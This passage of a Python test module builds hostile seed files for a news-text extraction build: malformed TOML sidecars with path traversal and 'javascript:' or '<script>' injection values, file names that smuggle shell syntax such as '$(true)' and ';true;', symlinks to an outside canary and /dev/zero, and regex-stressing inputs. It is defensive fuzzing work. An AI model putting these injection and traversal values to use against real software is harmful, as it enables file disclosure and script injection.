            "\u200f\u200f", "\u202e\u202d", "\u200b", "\u00ad\u00ad", "\u3164", "\u2800\u2800", "\u115f", "🚢🚢🚢", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "﷽", "ẞẞẞ", "İİ", "…", "“”", "«»",
            "0", "1", "-1", "null", "None", "undefined", "true", "NaN", "[object Object]", "%", "%s", "%00", "&", "&amp;", "&#x3c;", "<", ">", "{{", "}}", "{%", "%}", "$", "`", "'", '"',
            "a" * 5_000, "a " * 5_000, "A" + "\u0301" * 3_000, "и" * 400, "水" * 400, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200, "posts", "stories", "data", "theme",
        )
    ):  # fmt: skip
        yield f"headlines/{number:02}.txt", f"{headline}\n\n" + "\n\n".join(told(number + 300, headline))
        yield f"headlines/{number:02}.toml", sidecar(headline, url=f"https://tide.invalid/headline/{number}")
    for label in (
        "utf-7",
        "unicode_escape",
        "raw_unicode_escape",
        "punycode",
        "idna",
        "undefined",
        "rot13",
        "hex",
        "utf-16",
        "x-user-defined",
        "a" * 40,
        "hz",
        "cp037",
    ):
        for place, said in (
            ("high", b"gr\xf6\xdfer \\ud800 \\N{DIGIT ONE} \\x3cscript\\x3e +ADw- \\d"),
            ("xn", b"\xff.xn--\xff." + b"a" * 90),
        ):
            yield f"declared/{label}-{place}.html", f'<meta charset="{label}"><h1>Barges wait</h1>{BODY}'.encode() + b"<p>" + said + b"</p>"
        yield f"encoding-in-sidecar/{label}.txt", FILLER + " xn--a.xn--" + "ü" * 90
        yield f"encoding-in-sidecar/{label}.toml", f'encoding = "{label}"'
    for name, said in {
        "not-toml": "publisher = ",
        "not-utf-8": b'publisher = "\xff"',
        "unknown-key": 'save_as = "../../canary.html"',
        "table": "[publisher]\nname = 'x'",
        "list": "publisher = [['a'], [1, 2.5]]",
        "path": 'url = "file:///canary.txt"',
        "script": f'url = "javascript:{RUN}"',
        "quote": f"url = 'https://tide.invalid/\"><script>{RUN}</script>'",
        "control": 'publisher = "Ti\\u0007de\\u0000"\nbyline = "Ru\\u202ena"\nheadline = "Lock \\u0001 gates"\nsection = "Wa\\u0008ter"',
        "line": 'publisher = """Tide\nand\nCourant"""\nheadline = "a\\n\\nb"',
        "time": 'published = "2026-02-31"',
        "far": 'published = "9999-12-31T23:59:59-23:59"',
        "near": 'published = "0001-01-01T00:00:00+23:59"',
        "empty": 'publisher = ""\nheadline = ""\nbyline = ""\nsection = ""\nlanguage = ""\nwire = ""',
        "spaces": 'publisher = "   "\nheadline = "  "',
        "long": f'publisher = "{"Tide " * 5_000}"\nheadline = "{"Lock " * 5_000}"\nbyline = "{"Runa " * 5_000}"',
        "deep": "a = " + "[" * 3_000 + "]" * 3_000,
        "dotted": ".".join("a" * 3_000) + " = 1",
        "huge": "#" * 200_000,
        "number": "published = 9" + "9" * 5_000,
        "language": 'language = "../../en"',
        "language-of-markup": f"language = '<script>{RUN}</script>'",
        "language-by-name": 'language = "Deutsch"',
        "rights": 'rights = "all"',
        "ipv6": 'url = "https://[::1/"',
        "port": 'url = "https://tide.invalid:port/"',
        "dates": "published = 2026-03-12T08:30:00+23:59\nretrieved = 23:59:59\nmodified = 9999-12-31",
        "numbers": "publisher = 1e999\nheadline = nan\nbyline = -inf\nwire = 0x7fffffffffffffffffffffff\nsection = true",
        "empty-list": "publisher = []\nheadline = [[], {}]",
        "keys": "".join(f"k{n} = 1\n" for n in range(9_000)),
        "same-key": 'publisher = "a"\npublisher = "b"',
        "odd-keys": '"" = "a"\n"a b" = "c"\n"\\u202e" = "d"\n"<script>" = "e"',
        "halves": 'publisher = "\\uD800"',
        "carriage": 'publisher = "a\rb"',
        "bom": b'\xef\xbb\xbfpublisher = "Tide"',
        "utf-16": 'publisher = "Tide"'.encode("utf-16"),
        "encoding-of-nothing": 'encoding = "\\u0000"',
        "encoding-of-a-file": 'encoding = "../../canary.txt"',
        "separators": 'headline = "Lock\\u2028gates\\u2029jam\\u0085now"',
        "noncharacters": 'publisher = "Tide \\uFFFE\\uFFFF"',
    }.items():
        yield f"sidecar/{name}.txt", f"{name.capitalize()} lock\n\n" + FILLER
        yield f"sidecar/{name}.toml", said
    for name in (
        "con.txt", "index.html", "a b\tc.txt", "new\nline.txt", "quote\"'.txt", "<script>.txt", "%2e%2e%2f.txt", "{{x}}.txt", "-rf.txt",
        "nul\\nul.txt", "CASE.txt", "case.txt", "e\u0301.txt", "é.txt",
        "\u202egpj.txt", "no-ending", "two.txt.html", ".hidden.txt", "a.TXT", "[a].txt", "*.txt", "$(true).txt", "emoji-🚢.txt",
        "%2e%2e%2fcanary.txt", "a\\..\\b.txt", "\u200f.txt", "\ufeff.txt", "a\u2028b.txt", "\x7f.txt", "\x1b[2J.txt", "a\rb.txt", "NUL.txt", "lpt1.html", "a:b.txt",
        "🚢" * 50 + ".txt", "a.txt.", "a.TOML", "a.toml.txt", "Thumbs.db", "__init__.py", "a.php", "a.html.gz", "a'b\"c.html", "&lt;b&gt;.txt", "${HOME}.txt", ";true;.txt", "a|b.txt",
        "e\u0301\u0301.html", "ﬁ.txt", "a\u202e.lmth", "/".join(["deep"] * 90) + "/a.txt", "..a/..b/...txt", "a b/ c.txt",
        "x" * 200 + ".txt", "a#b?c.txt", "space .txt", " .txt", "~.txt", "[bold]red[/].txt",
    ):  # fmt: skip
        yield f"names/{name}", f"Lock {name} closed\n\n{FILLER}\nIts name is {name}."


def seeds() -> dict[str, bytes]:
    """Every hostile seed and sidecar: path below content/seeds -> bytes."""
    return {
        name: data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data
        for name, data in (*of_markup(), *of_invisible(), *of_shape())
    }


# What `on_disk` makes that a build must name and refuse.
NO_FILES = (
    "caf\\xe9.txt", "device.txt", "link.txt", "loop.txt", "nowhere.txt", "pipe.txt", "relative.txt", "socket.txt", "sparse.txt", "with-linked-sidecar.txt"
)  # fmt: skip


def on_disk(folder: Path, outside: Path) -> None:
    """Makes below `folder` what is no regular file, much of it leading to `outside`."""
    outside.mkdir(parents=True)
    (outside / "canary.txt").write_text(f"{CANARY} stands outside\n\n{FILLER}")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "link.txt").symlink_to(outside / "canary.txt")
    (folder / "relative.txt").symlink_to(os.path.relpath(outside / "canary.txt", folder))
    (folder / "loop.txt").symlink_to("loop.txt")
    (folder / "nowhere.txt").symlink_to("nowhere-at-all.txt")
    (folder / "device.txt").symlink_to("/dev/zero")
    (folder / "folder").symlink_to(outside)
    os.mkfifo(folder / "pipe.txt")
    listening = socket.socket(socket.AF_UNIX)
    here = os.open(folder, os.O_RDONLY)  # a socket's path has at most 107 bytes
    listening.bind(f"/proc/self/fd/{here}/socket.txt")
    os.close(here)
    listening.close()
    (folder / "with-linked-sidecar.txt").write_text(FILLER)
    (folder / "with-linked-sidecar.toml").symlink_to(outside / "canary.txt")
    (folder / os.fsdecode(b"caf\xe9.txt")).write_text(FILLER)
    with (folder / "sparse.txt").open("wb") as sparse:
        sparse.truncate(1 << 40)


# What a regular expression, or a loop in a loop, may trip over: said again and again in every place.
AGAIN = (
    " ", "\t", "\u00a0", "a", "a ", "A", "A. ", "1", "1,", "1.", "12:", "2026-", ".", ". ", ",", ";", ":", "!", "?", "…", "-", "—",
    " — ", "_", "=", "*", "#", "|", " | ", "/", "//", "\\",
    '"', '" ', '“', '”', "“a", "'", "’", "a’", "‘a’ ", "(", ")", "()", "( a", "[", "]", "{", "}", "<", ">", "<a", "<a>", "</a>", "<!--",
    "<p", "&", "&a", "&amp;", "@", "a@", "a@b.", "https://", "www.", "a.b",
    "By ", "By A ", "and ", "Mr. ", "said ", "said: “", "He said. ", "March ", "March 1, ", "Monday ", "© ", "(c) 2026 ", "(Reuters) ",
    "AP — ", "Source: ", "Read more ", "â‚¬", "Ã©", "é", "日", "日。", "、", "م", "ह", "\u0301",
    "\u200b", "\u202e", "\x01", "🚢", "İ", "ß", "$1 million ", "1 000 ", "10% ", "1 of 2 ", "A B C ", "a-", "a-a ",
)  # fmt: skip


def of_again(unit: str, kind: str) -> Callable[[int], tuple[str, bytes]]:
    def made(size: int) -> tuple[str, bytes]:
        run = unit * (size // len(unit))
        if kind == "line":
            return "a.txt", f"Barges wait\n\n{FILLER}\n\nThen {run} then.\n".encode()
        if kind == "lines":
            return "a.txt", (f"Barges wait\n\n{FILLER}\n\n" + f"Then {unit * 9} now.\n" * (size // (len(unit) * 9 + 11))).encode()
        if kind == "fact":
            return "a.txt", f"{run}\n\nBy {run}\n\n{FILLER}\n\nSource: {run}".encode()
        markup = html.escape(run)
        if kind == "markup":
            markup = run
        said = json.dumps(run[: size // 4]).replace("<", "\\u003c")
        facts = f'{{"@type":"NewsArticle","headline":{said},"author":{said},"datePublished":{said},"publisher":{{"name":{said}}}}}'
        return "a.html", (
            f"<html lang='{markup[:99]}'><head><title>{markup}</title><meta name=author content='{markup}'><script type='application/ld+json'>{facts}</script>"
            f"</head><body><h1>Barges wait</h1>{BODY}<p class=byline>By {markup}</p><p>{markup}</p></body></html>"
        ).encode()

    return made


def of_shapes(opening: str, closing: str = "", tail: str = "") -> Callable[[int], tuple[str, bytes]]:
    return lambda size: (
        "a.html",
        f"<h1>Barges wait</h1>{BODY}{opening * (size // len(opening + closing))}{closing and closing * (size // len(opening + closing))}{tail}".encode(),
    )


def of_lines(line: str, encoding: str = "utf-8") -> Callable[[int], tuple[str, bytes]]:
    return lambda size: ("a.txt", (f"Barges wait\n\n{FILLER}\n\n" + line * (size // len(line))).encode(encoding, "replace"))


def of_attributes(attribute: str) -> Callable[[int], tuple[str, bytes]]:
    return lambda size: (
        "a.html",
        f"<h1>Barges wait</h1>{BODY}<p {''.join(attribute.format(n) for n in range(size // len(attribute)))}>One.</p>".encode(),
    )


# What takes its time only when there is much of it: the same, for sizes ten times as large.
LARGE: Mapping[str, Callable[[int], tuple[str, bytes]]] = {
    "attributes that hold the end of a tag": of_attributes("a{}='>' "),
    "attributes side by side": of_attributes("a{}='b'"),
    "attributes in quotes": of_attributes('"a{}" '),
    "attributes that open": of_attributes("<a{} "),
    "attributes parted by strokes": of_attributes("/a{}"),
    "lines of an old encoding": of_lines("größer\n", "cp1252"),
    "lines of wrong letters": of_lines("â€™ Ã©\n"),
    "lines that end in hyphens": of_lines("the tide rose on monday said ada ost of the harbour offi-\n"),
    "lines that are full": of_lines("the tide rose on monday said ada ost of the harbour office and\n"),
    "lines without spaces": of_lines("a" * 60 + "-\n"),
    "lines that go on": of_lines("tide, tide of\n"),
    "line breaks": of_lines("\n"),
    "paragraphs": of_lines("The tide rose on Monday, said Ada Ost. “It was high,” she said. It fell again on 3 March 2026.\n\n"),
    "programs that never end": of_shapes("<script>"),
    "comparisons in programs": of_shapes("<script>if (a <b && c('d'))", "</script>"),
}

# Name -> a recipe: size in bytes, roughly, -> a seed's name and bytes.
GROWING: Mapping[str, Callable[[int], tuple[str, bytes]]] = {
    **{f"{kind} of {unit!r}": of_again(unit, kind) for unit in AGAIN for kind in ("line", "lines", "fact", "page")},
    **{f"markup of {unit!r}": of_again(unit, "markup") for unit in AGAIN if html.escape(unit) != unit},
    **{
        f"elements {opening}": of_shapes(opening)
        for opening in (
            "<p>One.</p>", "<p>", "<b>", "<i><p>", "<a>", "<br>", "<li>", "<td>", "<tr><td>A<td>B", "<p itemprop=x></p>", "<p itemprop=x>One</p>", "<time></time>", "<time>One</time>", "<a rel=author>A</a>",
            "<meta name=a content=b>", "<meta itemprop=x>", "<script type=ld+json>{}</script>", "<h2>One</h2>", "<svg>", "<title>a</title>", "<table>", "<form>", "<q>One</q>", "<p hidden>One.</p>", "<figcaption>One</figcaption>",
            "<p style='display:none'>", "<p class='a b c d'>One.</p>", "<li><a href=/>One more headline of the day</a></li>", "<select><option>", "<x-y>One", "<ruby>a<rt>b",
        )
    },
}  # fmt: skip


# ------------------------------------------------------------------------------------------------ reports that are hard to compare

CONSONANTS, VOWELS = "bdfgklmnprst", "aeiou"


def invented(number: int) -> str:
    """A word of five letters or more that no two numbers share.

    >>> invented(0), invented(3_601)
    ('babab', 'dabad')
    """
    letters = []
    for kind in (CONSONANTS, VOWELS, CONSONANTS, VOWELS):
        number, rest = divmod(number, len(kind))
        letters.append(kind[rest])
    return "".join(letters) + CONSONANTS[number % 12] * (1 + number // 12)


def twice(sentences_of: Callable[[int], Iterator[str]]) -> Callable[[], list[str]]:
    """Two reports of one event with sentences of the same making, which know by a number which report they stand in."""

    def made() -> list[str]:
        return [f"Lock gates jam at Bardenholm\n\n{told(900, 'No entry')[0]}\n\n" + "\n\n".join(sentences_of(report)) for report in (0, 1)]

    return made


def of_shared_words(report: int) -> Iterator[str]:
    """Each word stands in as many sentences as may bring two of them together."""
    words = [invented(number % 1_500) for number in range(30_000)]
    for place in range(0, len(words), 20):
        yield " ".join(words[(place * 7 + step * (61 + report)) % len(words)] for step in range(20)).capitalize() + "."


def of_counts(report: int) -> Iterator[str]:
    """Sentences that differ in numbers only, many in each."""
    for family in range(6):
        words = [invented(family * 30 + number) for number in range(30)]
        for sentence in range(20):
            counts = " ".join(f"{(sentence * 31 + place * 17 + report * 7) % 900 + 100} {words[place]}s" for place in range(20))
            yield f"At {words[0].capitalize()} lock they counted {' '.join(words)} and {counts} of {report}{sentence}{family}."


def of_names(report: int) -> Iterator[str]:
    """Sentences full of names that differ in a letter or two."""
    for sentence in range(200):
        names = (f"Ann{invented((sentence * 60 + place) * (3 + report) % 200)} Lee{invented(place * 7 % 120)}olm" for place in range(60))
        yield f"At the lock {', '.join(names)} and others waited, é{report}{sentence}."


def of_marks(report: int) -> Iterator[str]:
    """One paragraph of quotations without a stop."""
    yield " ".join(f"said “no {number} {invented(number)} at all” Ann Lee said," for number in range(2_000)) + f" and {report}."


def of_versions(report: int) -> Iterator[str]:
    """Sentences of few words in many orders."""
    for sentence in range(590):
        yield (
            f"Lock {sentence % 7} "
            + " ".join(("ebb", "tide")[(place * place * (sentence + 3 + report)) >> 3 & 1] for place in range(250))
            + "."
        )


COMPARED: Mapping[str, Callable[[], list[str]]] = {
    "words that many sentences share": twice(of_shared_words),
    "numbers of the same things": twice(of_counts),
    "names that differ in a letter": twice(of_names),
    "quotations without a stop": twice(of_marks),
    "few words in many orders": twice(of_versions),
    "sentences of one letter": twice(lambda report: iter(["日。" * 40_000 + f"{report}。"])),
    "one report fifty times": lambda: [
        f"{text}\n\nIt is the copy of {invented(number)}.\n" for number, text in enumerate([FILLER * 9] * 50)
    ],
}
